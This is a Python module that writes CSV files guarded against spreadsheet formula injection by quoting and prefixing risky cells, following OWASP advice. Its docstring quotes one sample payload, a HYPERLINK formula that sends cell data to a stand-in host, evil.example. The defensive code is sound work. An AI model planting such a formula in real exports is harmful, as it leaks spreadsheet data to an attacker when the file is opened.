"""CSV for spreadsheets, safe from formula injection.

A spreadsheet takes a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) for
a formula: a name like `=HYPERLINK("http://evil.example/?"&A1,"Stalin")` in a transcript would run when the
CSV is opened. As OWASP advises (https://owasp.org/www-community/attacks/CSV_Injection), such a cell is
written with a single quote before it, and quoted: `"'=HYPERLINK(...)"`, which a spreadsheet shows as text.
`raw=True` writes the values as they are, for OpenRefine and scripts that read the CSV as data. What the
toolkit reads of its own CSVs (review reports, authority files) goes through plain_value, which undoes it.
"""

from __future__ import annotations

from typing import Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTES = (",", '"', "\r", "\n")


def spreadsheet_value(value: str, raw: bool = False) -> str:
    """The value as its cell holds it: with a ' before it if a spreadsheet would take it for a formula."""
    return "'" + value if not raw and value.startswith(FORMULA_START) else value


def plain_value(cell: str) -> str:
    """The value a cell made safe by spreadsheet_value stands for: the toolkit reads back what it wrote (a
    review report into `tei authority suggest`, suggested rows into the authority) without the quote."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_START) else cell


def _field(value: str, raw: bool) -> str:
    cell = spreadsheet_value(value, raw)
    if cell != value or any(mark in cell for mark in _NEEDS_QUOTES):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]], raw: bool = False,
              line_end: str = "\n") -> bytes:
    """RFC 4180 CSV in UTF-8 (no byte order mark): the header, then the rows; a field is quoted when it holds
    a comma, a quote or a line break (as the csv module's QUOTE_MINIMAL), and when it was made safe."""
    lines = [",".join(_field(str(value), raw) for value in row) for row in [header, *rows]]
    return "".join(line + line_end for line in lines).encode("utf-8")
